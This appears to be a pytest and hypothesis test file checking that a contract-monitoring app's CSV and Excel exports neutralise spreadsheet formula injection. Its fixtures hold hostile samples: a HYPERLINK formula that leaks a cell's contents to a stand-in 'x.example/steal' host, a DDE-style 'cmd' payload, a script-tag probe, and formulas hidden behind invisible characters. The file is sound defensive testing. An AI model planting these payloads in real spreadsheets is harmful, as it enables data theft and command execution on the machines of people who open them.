"""Spreadsheet (formula) injection: every CSV and Excel download holds text a spreadsheet cannot run.

The checks here use their own reading of "looks like a formula" (OWASP's: a cell whose first character,
after any leading blank, is = + - @, or with a tab or carriage return among its leading blanks), not
``spreadsheet_safety``'s, so a mistake there cannot hide itself."""

from __future__ import annotations

import csv
import datetime as dt
import io
import unicodedata

import openpyxl
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from contract_monitor import presentation, stories
from contract_monitor.spreadsheet_safety import neutralise, neutralise_frame

HYPERLINK = '=HYPERLINK("http://x.example/steal?d="&A1,"Click for details")'
BLANKS = [
    " ",
    "\u00a0",
    *(chr(c) for c in range(0x2000, 0x200B)),
    "\u202f",
    "\u3000",
    "\ufeff",
    "\u200b",
    "\u200c",
    "\u200d",
    "\u2060",
    "\n",
    "\t",
    "\r",
    "\x0b",
    "\x1f",
    "\x85",
]
XLSX_ILLEGAL = {chr(c) for c in (*range(0x00, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20))}


def _blank(char: str) -> bool:
    return char.isspace() or unicodedata.category(char) in ("Zs", "Cc", "Cf")


def _risky(text: str) -> bool:
    """The test's own rule: what a spreadsheet could run."""
    index = 0
    while index < len(text) and _blank(text[index]):
        index += 1
    return text[index : index + 1] in ("=", "+", "-", "@") or "\t" in text[:index] or "\r" in text[:index]


def _assert_safe(cell: str, original: str) -> None:
    assert not _risky(cell) or cell.startswith("'"), repr(cell)
    assert cell == ("'" + original if _risky(original) else original), (cell, original)


hostile_text = st.builds(
    lambda blanks, start, body: blanks + start + body,
    st.text(alphabet=st.sampled_from(BLANKS), max_size=6),
    st.sampled_from(["=", "+", "-", "@", "\t", "\r", "", "'", "-3", "=1+1", HYPERLINK]),
    st.one_of(
        st.sampled_from(["", "*bold* [link](http://x)", "<script>alert(1)</script>", "<b>hi</b>", "cmd|' /C calc'!A0"]),
        st.text(st.characters(blacklist_categories=("Cs",)), max_size=60),
        st.builds(lambda chunk, times: chunk * times, st.text(min_size=1, max_size=10), st.integers(400, 600)),
        st.builds(lambda a, b: a + "\r" + b, st.text(max_size=10), st.sampled_from([HYPERLINK, "=1+1", "@x"])),
    ),
)


def _csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _xlsx_cells(data: bytes) -> list[list[openpyxl.cell.Cell]]:
    book = openpyxl.load_workbook(io.BytesIO(data), data_only=False)
    return [list(row) for row in book.active.iter_rows()]


def _as_xlsx_holds_it(text: str) -> str:
    """What an .xlsx keeps of a text: no control characters it cannot hold, a carriage return read as a newline."""
    kept = "".join(char for char in text if char not in XLSX_ILLEGAL)
    return kept.replace("\r\n", "\n").replace("\r", "\n")


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
@given(header=hostile_text, cells=st.lists(hostile_text, min_size=1, max_size=4))
def test_hostile_text_in_a_download_is_plain_text_in_csv_and_excel(header, cells):
    table = pd.DataFrame({header: cells, "Count": range(len(cells))})
    rows = _csv_cells(presentation.csv_bytes(table))
    assert len(rows) == len(cells) + 1 and all(len(row) == 2 for row in rows)  # no cell broke into a new row
    _assert_safe(rows[0][0], header)
    for row, original in zip(rows[1:], cells, strict=True):
        _assert_safe(row[0], original)

    sheet = _xlsx_cells(presentation.excel_bytes(table, "hostile"))
    assert len(sheet) == len(cells) + 1
    for row, original in zip(sheet, [header, *cells], strict=True):
        cell = row[0]
        assert cell.data_type != "f", cell.value
        value = cell.value or ""
        assert not _risky(value) or value.startswith("'"), repr(value)
        expected = "'" + original if _risky(original) else original
        assert value == _as_xlsx_holds_it(expected)


def test_a_cell_led_by_an_invisible_blank_is_neutralised_in_both_downloads():
    table = pd.DataFrame({"Comment": ["\u00a0" + HYPERLINK, "\ufeff@SUM(1)", "\n=1+1", "\u200b-cmd"]})
    csv_rows = _csv_cells(presentation.csv_bytes(table))
    xlsx_rows = _xlsx_cells(presentation.excel_bytes(table))
    for original, csv_row, xlsx_row in zip(table["Comment"], csv_rows[1:], xlsx_rows[1:], strict=True):
        assert csv_row[0] == "'" + original
        assert xlsx_row[0].value == "'" + original and xlsx_row[0].data_type == "s"


def test_a_carriage_return_inside_a_csv_cell_does_not_start_a_new_row():
    # unquoted, the carriage return would end the row and "=1+1" would be a cell of a row of its own
    table = pd.DataFrame({"Comment": ["Fine\r=1+1"], "ID": ["F1"]})
    assert _csv_cells(presentation.csv_bytes(table)) == [["Comment", "ID"], ["Fine\r=1+1", "F1"]]


def test_numbers_dates_and_missing_values_stay_values_in_the_excel_download():
    table = pd.DataFrame(
        {
            "Change": [-3.5, 2.0],
            "Whole": [-3, 4],
            "Mixed": [-1.25, None],  # an object column: numbers in it stay numbers
            "Day": [dt.date(2026, 11, 1), dt.date(2026, 12, 1)],
            "Said": ["-3 visits", "fine"],
        }
    )
    table["Mixed"] = table["Mixed"].astype(object)
    header, first, second = _xlsx_cells(presentation.excel_bytes(table))
    assert [c.value for c in header] == ["Change", "Whole", "Mixed", "Day", "Said"]
    assert [(c.value, c.data_type) for c in first[:3]] == [(-3.5, "n"), (-3, "n"), (-1.25, "n")]
    assert first[3].data_type == "d" and first[3].value.date() == dt.date(2026, 11, 1)
    assert first[4].value == "'-3 visits"  # text that starts like a formula is text
    assert second[2].value is None
    csv_rows = _csv_cells(presentation.csv_bytes(table))
    assert csv_rows[1][:3] == ["-3.5", "-3", "-1.25"]


@pytest.mark.parametrize(
    "value",
    [-3.5, -3, 0, True, None, float("nan"), pd.NA, pd.NaT, dt.date(2026, 1, 1), pd.Timestamp("2026-01-01")],
    ids=repr,
)
def test_neutralise_leaves_numbers_dates_and_missing_values_alone(value):
    assert neutralise(value) is value


def test_neutralise_frame_turns_other_objects_into_text_and_leaves_the_frame_as_it_was():
    table = pd.DataFrame({"=Themes": [["=a", "b"], "@x"], "n": [-1.0, 2.0]})
    safe = neutralise_frame(table)
    assert list(safe.columns) == ["'=Themes", "n"] and list(table.columns) == ["=Themes", "n"]
    assert safe["'=Themes"].tolist() == ["['=a', 'b']", "'@x"]  # a list is written as str() shows it
    assert safe["n"].tolist() == [-1.0, 2.0] and table["=Themes"].tolist()[1] == "@x"


def _comments(text: str) -> pd.DataFrame:
    return pd.DataFrame(
        {
            "feedback_id": ["F1"],
            "contract_id": ["C002"],
            "title": ["Home care"],
            "source": ["service user"],
            "text": [text],
            "display_text": [text],
            "sentiment": ["negative"],
            "themes": [["=time"]],
            "received_date": [dt.date(2026, 11, 3)],
            "month": [dt.date(2026, 11, 1)],
            "shareable_with_board": [True],
        }
    )


@pytest.mark.parametrize("text", ["\u00a0" + HYPERLINK, HYPERLINK], ids=["behind-nbsp", "as-stored"])
@pytest.mark.parametrize("build", [presentation.comments_table, stories.board_table], ids=["comments", "board"])
def test_a_hyperlink_comment_is_no_formula_in_the_board_facing_downloads(text, build):
    table = build(_comments(text))
    sheet = _xlsx_cells(presentation.excel_bytes(table, "comments"))
    for row in sheet:
        for cell in row:
            assert cell.data_type != "f", cell.value
            assert not isinstance(cell.value, str) or not _risky(cell.value) or cell.value.startswith("'")
    column = list(table.columns).index("Comment")
    assert sheet[1][column].value == "'" + text
    assert _csv_cells(presentation.csv_bytes(table))[1][column] == "'" + text
